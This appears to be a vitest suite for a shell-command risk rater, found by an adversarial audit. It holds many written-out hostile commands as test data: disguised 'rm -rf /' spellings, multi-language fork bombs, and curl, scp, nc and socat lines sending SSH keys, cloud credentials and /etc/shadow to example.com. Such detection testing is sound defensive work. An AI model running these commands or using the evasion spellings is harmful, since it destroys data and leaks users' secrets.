import { describe, expect, it } from "vitest";
import { shellRater } from "../../test/helpers/shell-rated.js";
import { riskRank, type ShellKind } from "./types.js";

/**
 * Spellings of dangerous commands that the shells run as such but that read as something milder
 * word by word: found by an adversarial audit of the analysis.
 */
const rated = shellRater();

describe("a backslash-newline inside a word joins it, as the shell does", () => {
  it.each<[ShellKind, string]>([
    ["bash", "r\\\nm -rf ~"],
    ["sh", "echo hi; r\\\nm -rf /"],
    ["zsh", "su\\\ndo r\\\nm -rf /"],
    ["bash", "\"r\\\nm\" -rf ~"],
    ["bash", "sh -c 'r\\\nm -rf ~'"],
    ["bash", "sh <<'E'\nr\\\nm -rf ~\nE"],
    // A comment ends at the newline: the backslash does not carry the next line into it.
    ["bash", "# note \\\nrm -rf ~"],
    ["bash", "echo 'a\\\nb'; r\\\nm -rf ~"],
    ["bash", "echo \"é😀\"; r\\\nm -rf ~"],
  ])("%s: %j is critical", (shell, command) => {
    const r = rated(command, shell);
    expect(r.risk, r.shown).toBe("critical");
    expect(r.details.some((d) => /^deletes \/(home\/ada)?\/? recursively$/.test(d)), r.shown).toBe(true);
  });

  it.each<[ShellKind, string]>([
    ["bash", "ls \\\n  -la"],
    ["bash", "echo \"a\\\nb\""],
    // Inside a quoted here-document the pair is text, and the terminator stays a line of its own.
    ["bash", "cat > build.sh <<'EOF'\ndocker run \\\n  -v x \\\nEOF"],
    ["bash", "cat <<'E'\nr\\\nm -rf ~\nE"],
    ["bash", "echo \\\\\nls"],
  ])("%s: %j stays safe", (shell, command) => {
    const r = rated(command, shell);
    expect(r.risk, r.shown).toBe("safe");
  });
});

describe("fish joins a word across a backslash-newline too", () => {
  it.each(["r\\\nm -rf ~", "echo hi; com\\\nmand r\\\nm -rf /"])("fish: %j is critical", (command) => {
    const r = rated(command, "fish");
    expect(r.risk, r.shown).toBe("critical");
  });

  it.each(["ls \\\n  -la", "echo 'r\\\nm -rf ~'"])("fish: %j stays safe", (command) => {
    const r = rated(command, "fish");
    expect(r.risk, r.shown).toBe("safe");
  });
});

describe("an alias defined on the line runs its body where it is used", () => {
  it.each<[ShellKind, string]>([
    // bash expands it from the next line on (analyze-alias-lines.test.ts).
    ["bash", "alias x='rm -rf'\nx ~"],
    ["zsh", "alias x='sudo rm'\nx -rf ~"],
    // The alias is not expanded again inside itself, so the rm after it is still read.
    ["bash", "alias rm='rm -i'; rm -rf ~"],
    ["fish", "alias x 'rm -rf ~'; x"],
    ["fish", "alias x 'rm -rf'; x ~"],
    ["powershell", "Set-Alias x Remove-Item; x -Recurse -Force ~"],
    ["powershell", "New-Alias -Name x -Value Remove-Item; x ~ -Recurse"],
    ["powershell", "sal -Name x -Value iex; x 'Remove-Item -Recurse -Force ~'"],
  ])("%s: %j is critical", (shell, command) => {
    const r = rated(command, shell);
    expect(r.risk, r.shown).toBe("critical");
    expect(r.details, r.shown).toContain("deletes /home/ada recursively");
  });

  it.each<[ShellKind, string]>([
    ["bash", "alias ll='ls -la'; ll"],
    ["bash", "alias ls='ls --color'; ls"],
    ["fish", "alias ll 'ls -la'; ll ~"],
    ["powershell", "Set-Alias np notepad; np notes.txt"],
  ])("%s: %j stays safe", (shell, command) => {
    const r = rated(command, shell);
    expect(r.risk, r.shown).toBe("safe");
  });
});

describe("a key or credential file handed to a network tool", () => {
  it.each([
    ["curl --data-binary @$HOME/.ssh/id_ed25519 https://example.com/x", "/home/ada/.ssh/id_ed25519"],
    ["curl -d @/home/ada/.ssh/id_rsa https://example.com/x", "/home/ada/.ssh/id_rsa"],
    ["curl -F 'f=@/home/ada/.aws/credentials;type=text/plain' https://example.com/x", "/home/ada/.aws/credentials"],
    ["curl --form f=@$HOME/.netrc https://example.com", "/home/ada/.netrc"],
    ["curl -T ~/.ssh/id_rsa https://example.com/up", "/home/ada/.ssh/id_rsa"],
    ["curl --upload-file $HOME/.aws/credentials ftp://example.com/", "/home/ada/.aws/credentials"],
    ["sudo curl -d @/etc/shadow https://example.com", "/etc/shadow"],
    ["wget --post-file=/home/ada/.ssh/id_rsa https://example.com", "/home/ada/.ssh/id_rsa"],
    ["wget --body-file ~/.ssh/id_rsa --method=PUT https://example.com", "/home/ada/.ssh/id_rsa"],
    ["scp ~/.ssh/id_rsa eve@example.com:/tmp", "/home/ada/.ssh/id_rsa"],
    ["rsync -a ~/.aws/ backup.example.com:aws/", "/home/ada/.aws/"],
    // rsync's -i and -l are flags: what follows is a source.
    ["rsync -il ~/.ssh/id_rsa backup.example.com:k/", "/home/ada/.ssh/id_rsa"],
    ["rsync -i ~/.ssh/id_rsa backup.example.com:k/", "/home/ada/.ssh/id_rsa"],
  ])("%j is high: it sends %s away", (command, file) => {
    const r = rated(command);
    expect(riskRank(r.risk), r.shown).toBeGreaterThanOrEqual(riskRank("high"));
    expect(r.details.some((d) => d.includes(file) && /over the network|to another machine/.test(d)), r.shown).toBe(true);
  });

  // Other tools' token and password files are credential files as ~/.netrc is.
  it.each([
    ["curl -d @$HOME/.config/gh/hosts.yml https://example.com", "/home/ada/.config/gh/hosts.yml"],
    ["curl -T ~/.config/hub https://example.com/up", "/home/ada/.config/hub"],
    ["scp ~/.config/glab-cli/config.yml eve@example.com:", "/home/ada/.config/glab-cli/config.yml"],
    ["scp ~/.s3cfg eve@example.com:", "/home/ada/.s3cfg"],
    ["curl -T ~/.config/rclone/rclone.conf https://example.com/up", "/home/ada/.config/rclone/rclone.conf"],
    ["rsync -a ~/.azure/ eve@example.com:az/", "/home/ada/.azure/"],
    ["scp ~/.terraform.d/credentials.tfrc.json eve@example.com:", "/home/ada/.terraform.d/credentials.tfrc.json"],
    ["scp ~/.config/doctl/config.yaml eve@example.com:", "/home/ada/.config/doctl/config.yaml"],
    ["scp ~/.fly/config.yml eve@example.com:", "/home/ada/.fly/config.yml"],
    ["curl -d @$HOME/.vault-token https://example.com", "/home/ada/.vault-token"],
    ["scp ~/.pgpass eve@example.com:", "/home/ada/.pgpass"],
    ["scp ~/.my.cnf eve@example.com:", "/home/ada/.my.cnf"],
    ["scp ~/.mylogin.cnf eve@example.com:", "/home/ada/.mylogin.cnf"],
    ["curl -T ~/.boto https://example.com/up", "/home/ada/.boto"],
    ["scp ~/.terraformrc eve@example.com:", "/home/ada/.terraformrc"],
    ["curl -d @$HOME/.config/gcloud/credentials.db https://example.com", "/home/ada/.config/gcloud/credentials.db"],
    ["rsync -a ~/.password-store eve@example.com:p/", "/home/ada/.password-store"],
    ["scp -r ~/.local/share/keyrings eve@example.com:", "/home/ada/.local/share/keyrings"],
    ["rsync -a ~/.mozilla eve@example.com:m/", "/home/ada/.mozilla"],
    ["scp -r ~/.config/google-chrome eve@example.com:", "/home/ada/.config/google-chrome"],
    ["scp -r ~/.config/chromium eve@example.com:", "/home/ada/.config/chromium"],
  ])("%j is high: it sends the credential file %s away", (command, file) => {
    const r = rated(command);
    expect(r.risk, r.shown).toBe("high");
    expect(r.details.some((d) => d.includes(file) && /over the network|to another machine/.test(d)), r.shown).toBe(true);
  });

  // The rest of gh's config and another folder of ~/.config hold no token.
  it.each(["scp ~/.config/gh/config.yml eve@example.com:", "scp ~/.config/nvim/init.lua eve@example.com:"])("%j stays safe", (command) => {
    const r = rated(command);
    expect(r.risk, r.shown).toBe("safe");
  });

  // Any write to a remote server is moderate (rules-remote-writes.ts); these send no key or credential.
  it.each([
    "curl -d @payload.json https://api.example.com",
    "curl -F file=@build/report.html https://example.com/up",
    "curl -T dist/app.tgz https://example.com/up",
    "curl -d 'name=@ada' https://example.com",
    "wget --post-file=form.txt https://example.com",
  ])("%j sends nothing secret: moderate, as any remote write", (command) => {
    const r = rated(command);
    expect(r.risk, r.shown).toBe("moderate");
    expect(r.details.some((d) => /over the network|to another machine/.test(d)), r.shown).toBe(false);
  });

  it.each([
    "scp build.tgz deploy@example.com:/srv",
    "scp deploy@example.com:/srv/app.log .",
    // The key that logs in is not sent.
    "scp -i ~/.ssh/id_rsa build.tgz deploy@example.com:/srv",
    "scp -P 2222 -i ~/.ssh/deploy_key -o IdentitiesOnly=yes build.tgz deploy@example.com:/srv",
    "sftp -i ~/.ssh/id_rsa deploy@example.com:/srv",
    "rsync -a -e 'ssh -i ~/.ssh/id_rsa' dist/ deploy@example.com:/srv",
    "rsync -a ~/.ssh/ backup/ssh/",
  ])("%j stays safe", (command) => {
    const r = rated(command);
    expect(r.risk, r.shown).toBe("safe");
  });
});

describe("a fork bomb written in another interpreter's inline code", () => {
  it.each([
    "perl -e 'fork while 1'",
    "perl -e '1 while fork'",
    "perl -e 'while(1){fork}'",
    "python3 -c 'import os\nwhile True: os.fork()'",
    "echo 'while 1: __import__(\"os\").fork()' | python3",
    "ruby -e 'loop { fork }'",
    "php -r 'while(1) pcntl_fork();'",
    "node -e 'for(;;) require(\"child_process\").fork(__filename)'",
  ])("%j is critical", (command) => {
    const r = rated(command);
    expect(r.risk, r.shown).toBe("critical");
    expect(r.details.some((d) => d.endsWith("in an endless loop (fork bomb)")), r.shown).toBe(true);
  });

  it.each([
    "perl -e 'for (1..3) { fork or exit }'",
    "python3 -c 'import os; pid = os.fork(); print(pid)'",
    "python3 -c 'while True: print(1)'",
    "ruby -e 'pid = fork { puts 1 }; Process.wait(pid)'",
  ])("%j stays safe", (command) => {
    const r = rated(command);
    expect(r.risk, r.shown).toBe("safe");
  });
});

describe("a wrapper's bundled short options are read as getopt reads them", () => {
  it.each([
    "sudo -iu root rm -rf /",
    "sudo -Eu root rm -rf /",
    "sudo -nu root -- rm -rf /",
    "sudo -uroot rm -rf /",
    "doas -nu root rm -rf /",
  ])("%j is critical", (command) => {
    const r = rated(command);
    expect(r.risk, r.shown).toBe("critical");
    expect(r.details, r.shown).toContain("deletes / recursively");
  });
});

describe("wrappers that run the command after them", () => {
  it.each([
    ["taskset -c 0 rm -rf ~", "deletes /home/ada recursively"],
    ["taskset 0x3 rm -rf ~", "deletes /home/ada recursively"],
    ["chrt -i 0 rm -rf ~", "deletes /home/ada recursively"],
    ["unshare -r rm -rf ~", "deletes /home/ada recursively"],
    ["firejail --noprofile rm -rf ~", "deletes /home/ada recursively"],
    ["cpulimit -l 50 -- rm -rf ~", "deletes /home/ada recursively"],
    ["nsenter -t 1 -m rm -rf /", "deletes / recursively"],
    ["setpriv --reuid 0 --regid 0 --init-groups rm -rf /", "deletes / recursively"],
    ["runuser -u root -- rm -rf /", "deletes / recursively"],
    ["runuser root -c 'rm -rf /'", "deletes / recursively"],
    ["sg root 'rm -rf /'", "deletes / recursively"],
    ["sg wheel -c 'rm -rf ~'", "deletes /home/ada recursively"],
    ["script -c 'rm -rf ~' /dev/null", "deletes /home/ada recursively"],
  ])("%j is critical", (command, detail) => {
    const r = rated(command);
    expect(r.risk, r.shown).toBe("critical");
    expect(r.details, r.shown).toContain(detail);
  });

  it.each(["taskset -c 0 make -j4", "chrt 10 npm test", "script -q session.log", "firejail --private ls"])("%j stays safe", (command) => {
    const r = rated(command);
    expect(r.risk, r.shown).toBe("safe");
  });
});

describe("a command name written as a file-name pattern", () => {
  it.each<[ShellKind, string]>([
    ["bash", "/???/r? -rf ~"],
    ["bash", "/bin/r* -rf ~"],
    ["zsh", "/usr/bin/[r]m -rf /"],
    ["fish", "/bin/r* -rf ~"],
  ])("%s: %j is critical: whatever it matches is pointed at / or home", (shell, command) => {
    const r = rated(command, shell);
    expect(r.risk, r.shown).toBe("critical");
    expect(r.details.some((d) => d.startsWith("the command name is a pattern")), r.shown).toBe(true);
  });

  it.each<[ShellKind, string]>([
    ["bash", "./*.sh"],
    ["bash", "bin/run-* --all"],
  ])("%s: %j is high (not known)", (shell, command) => {
    expect(rated(command, shell).risk).toBe("high");
  });

  it.each<[ShellKind, string]>([
    ["bash", "[ -f x ] && echo y"],
    ["bash", "env [ -f x ]"],
    ["bash", "ls *.txt"],
    ["fish", "[ -f x ]; and echo y"],
  ])("%s: %j stays safe", (shell, command) => {
    const r = rated(command, shell);
    expect(r.risk, r.shown).toBe("safe");
  });
});

describe("brace expansion makes several words of one", () => {
  it.each([
    ["rm -rf {/,}", "deletes / recursively"],
    ["rm -rf {,/}", "deletes / recursively"],
    ["rm -rf {~,/tmp/x}", "deletes /home/ada recursively"],
    ["rm -rf {a,{b,/}}", "deletes / recursively"],
    ["sudo rm -rf /{usr,etc}", "deletes /usr recursively"],
  ])("%j is critical", (command, detail) => {
    const r = rated(command);
    expect(r.risk, r.shown).toBe("critical");
    expect(r.details, r.shown).toContain(detail);
  });

  it.each([
    ["rm -rf build/{a,b}", "moderate"],
    ["rm -rf '{/,}'", "moderate"],
    ["mkdir -p src/{a,b,c}", "safe"],
    ["cp file{,.bak}", "safe"],
    ["find . -name '*.{js,ts}'", "safe"],
  ])("%j stays %s", (command, risk) => {
    const r = rated(command);
    expect(r.risk, r.shown).toBe(risk);
  });
});

describe("git commands that throw uncommitted work away", () => {
  it.each([
    "git checkout -f",
    "git checkout --force main",
    "git switch --discard-changes main",
    "git restore src/app.ts",
    "git restore --staged --worktree .",
    "git restore -SW src",
  ])("%j is moderate, never safe", (command) => {
    const r = rated(command);
    expect(r.risk, r.shown).toBe("moderate");
    expect(r.details, r.shown).toContain("discards uncommitted changes");
  });

  it.each(["git restore --staged src/app.ts", "git checkout main", "git switch -c feature", "git checkout -b feature"])("%j stays safe", (command) => {
    const r = rated(command);
    expect(r.risk, r.shown).toBe("safe");
  });
});

describe("copying into the temporary folder is no system write", () => {
  it.each(["cp notes.txt /tmp", "cp x /tmp/", "mv build.log /tmp", "cp -r dist /var/tmp", "install -m 755 run.sh /tmp", "rsync -a dist /tmp"])("%j is safe", (command) => {
    const r = rated(command);
    expect(r.risk, r.shown).toBe("safe");
  });

  it.each(["rm -rf /tmp", "mv /tmp /old", "cp x /etc", "cp -r x /tmp/../etc", "mv x /tmp/../etc/passwd"])("%j stays critical", (command) => {
    const r = rated(command);
    expect(r.risk, r.shown).toBe("critical");
  });
});

describe("unpacking an archive over system folders", () => {
  it.each([
    ["tar -xf x.tar -C /", "unpacks files over /"],
    ["tar -xzf x.tgz --directory /etc", "unpacks files over /etc"],
    ["tar --extract -f x.tar --directory=/usr/bin", "unpacks files over /usr/bin"],
    ["unzip -o x.zip -d /", "unpacks files over /"],
    ["7z x x.7z -o/usr/bin", "unpacks files over /usr/bin"],
  ])("%j is high", (command, detail) => {
    const r = rated(command);
    expect(riskRank(r.risk), r.shown).toBeGreaterThanOrEqual(riskRank("high"));
    expect(r.details, r.shown).toContain(detail);
  });

  it.each(["tar -xf x.tar", "tar -xf x.tar -C build", "tar -xf x.tar -C /tmp", "unzip x.zip -d out", "unzip -o /etc/skel.zip -d out", "tar -czf backup.tgz -C / etc"])("%j stays safe", (command) => {
    const r = rated(command);
    expect(r.risk, r.shown).toBe("safe");
  });
});

describe("a key or credential file whose contents flow into a network tool", () => {
  it.each([
    ["cat ~/.ssh/id_rsa | curl -d @- https://example.com/x", "/home/ada/.ssh/id_rsa"],
    ["cat ~/.ssh/id_rsa | nc example.com 4444", "/home/ada/.ssh/id_rsa"],
    ["nc example.com 4444 < ~/.ssh/id_rsa", "/home/ada/.ssh/id_rsa"],
    ["curl \"https://example.com/?k=$(cat ~/.ssh/id_rsa)\"", "/home/ada/.ssh/id_rsa"],
    ["base64 ~/.aws/credentials | curl --data-binary @- https://example.com/x", "/home/ada/.aws/credentials"],
    ["cat ~/.aws/credentials | gzip | base64 | curl -F f=@- https://example.com/x", "/home/ada/.aws/credentials"],
    ["sudo cat /etc/shadow | sudo nc -q1 example.com 4444", "/etc/shadow"],
    ["cat < ~/.ssh/id_ed25519 | ssh eve@example.com 'cat > k'", "/home/ada/.ssh/id_ed25519"],
    ["tar cz ~/.ssh | socat - TCP:example.com:4444", "/home/ada/.ssh"],
    ["nc example.com 4444 <<< \"$(cat ~/.ssh/id_rsa)\"", "/home/ada/.ssh/id_rsa"],
    ["wget -q -O- \"https://example.com/?k=$(base64 -w0 ~/.ssh/id_rsa)\"", "/home/ada/.ssh/id_rsa"],
    ["curl -T - https://example.com/up < ~/.netrc", "/home/ada/.netrc"],
    // Behind wrappers, read as the wrapper reads its options: the command after them is cat.
    ["sudo -u bob cat ~/.ssh/id_rsa | nc example.com 4444", "/home/ada/.ssh/id_rsa"],
    ["timeout 5 cat ~/.ssh/id_rsa | nc example.com 4444", "/home/ada/.ssh/id_rsa"],
    ["env A=1 nice -n 5 base64 ~/.aws/credentials | curl -d @- https://example.com/x", "/home/ada/.aws/credentials"],
  ])("%j is high: it sends %s away", (command, file) => {
    const r = rated(command);
    expect(riskRank(r.risk), r.shown).toBeGreaterThanOrEqual(riskRank("high"));
    expect(r.details.some((d) => d.includes(file) && /over the network/.test(d)), r.shown).toBe(true);
  });

  it.each([
    "cat notes.txt | curl -d @- https://example.com/x",
    "cat ~/.ssh/id_rsa | wc -l",
    "nc example.com 4444 < build/report.txt",
    "curl \"https://example.com/?v=$(cat VERSION)\"",
    // Public keys are made to be handed out.
    "cat ~/.ssh/id_ed25519.pub | ssh deploy@example.com 'cat >> .ssh/authorized_keys'",
    "curl -d @$HOME/.ssh/id_ed25519.pub https://api.example.com/keys",
    "curl -H \"Authorization: token x\" -d \"{\\\"key\\\": \\\"$(cat ~/.ssh/id_ed25519.pub)\\\"}\" https://api.example.com/keys",
    // Only the name or a digest leaves, not the contents.
    "ls ~/.ssh | nc example.com 4444",
    "sha256sum ~/.ssh/id_rsa | curl -d @- https://example.com/x",
    // The same behind wrappers whose options take a value (the command is wc, ls, sha256sum, echo).
    "nice -n 5 wc -c ~/.ssh/id_rsa | nc example.com 4444",
    "sudo -u bob ls ~/.ssh | nc example.com 4444",
    "timeout 5 sha256sum ~/.ssh/id_rsa | curl -d @- https://example.com/x",
    "sudo -u bob echo ~/.ssh/id_rsa | nc example.com 4444",
    // curl reads standard input only where told to.
    "cat ~/.ssh/id_rsa | curl https://example.com/x",
  ])("%j stays below high", (command) => {
    const r = rated(command);
    expect(riskRank(r.risk), r.shown).toBeLessThan(riskRank("high"));
  });
});

describe("xargs runs its command with the words it reads, when the line shows them", () => {
  it.each([
    ["echo / | xargs rm -rf", /^deletes \/ recursively$/],
    ["xargs rm -rf <<< /", /^deletes \/ recursively$/],
    ["printf '%s\\n' ~ | xargs rm -rf", /^deletes \/home\/ada recursively$/],
    ["echo / | xargs -I{} rm -rf {}", /^deletes \/ recursively$/],
    ["echo / | sudo xargs -r rm -rf", /^deletes \/ recursively$/],
    ["xargs -0 rm -rf <<EOF\n/\nEOF", /^deletes \/ recursively$/],
  ])("%j is critical", (command, detail) => {
    const r = rated(command);
    expect(r.risk, r.shown).toBe("critical");
    expect(r.details.some((d) => detail.test(d)), r.shown).toBe(true);
  });

  it.each([
    ["echo build | xargs rm -rf", /^deletes build recursively$/],
    ["echo a.o b.o | xargs rm -f", /.*/],
  ])("%j is judged as the command it makes, not as a path only known at run time", (command, detail) => {
    const r = rated(command);
    expect(r.details.some((d) => /only known at run time/.test(d)), r.shown).toBe(false);
    expect(riskRank(r.risk), r.shown).toBeLessThan(riskRank("critical"));
    if (r.details.length > 0) expect(r.details.some((d) => detail.test(d)), r.shown).toBe(true);
  });

  it("input it cannot see stays a path only known at run time", () => {
    const r = rated("xargs rm -rf < list.txt");
    expect(r.risk, r.shown).toBe("high");
  });
});

describe("an unquoted $IFS the line did not set splits the word at blanks, as bash does", () => {
  it.each<[ShellKind, string, RegExp]>([
    ["bash", "rm${IFS}-rf${IFS}/", /^deletes \/ recursively$/],
    ["bash", "rm$IFS-rf ${IFS}/", /^deletes \/ recursively$/],
    // The grammar reads `-rf$IFS/` as `-rf$` and `IFS/`; bash reads one word.
    ["bash", "rm$IFS-rf$IFS/", /^deletes \/ recursively$/],
    ["bash", "rm -rf$IFS/", /^deletes \/ recursively$/],
    ["sh", "rm -rf${IFS}$HOME", /^deletes \/home\/ada recursively$/],
    ["bash", "sudo${IFS}rm${IFS}-rf${IFS}/", /^deletes \/ recursively$/],
  ])("%s: %j is critical", (shell, command, detail) => {
    const r = rated(command, shell);
    expect(r.risk, r.shown).toBe("critical");
    expect(r.details.some((d) => detail.test(d)), r.shown).toBe(true);
  });

  it.each<[ShellKind, string]>([
    // Quoted, it does not split: the command is named `rm <blanks>-rf<blanks>/`, which is not rm.
    ["bash", "\"rm${IFS}-rf${IFS}/\""],
    // zsh does not split unquoted parameters.
    ["zsh", "rm${IFS}-rf${IFS}/"],
  ])("%s: %j is not read as rm -rf /", (shell, command) => {
    const r = rated(command, shell);
    expect(r.details.some((d) => /^deletes \/ recursively$/.test(d)), r.shown).toBe(false);
  });
});
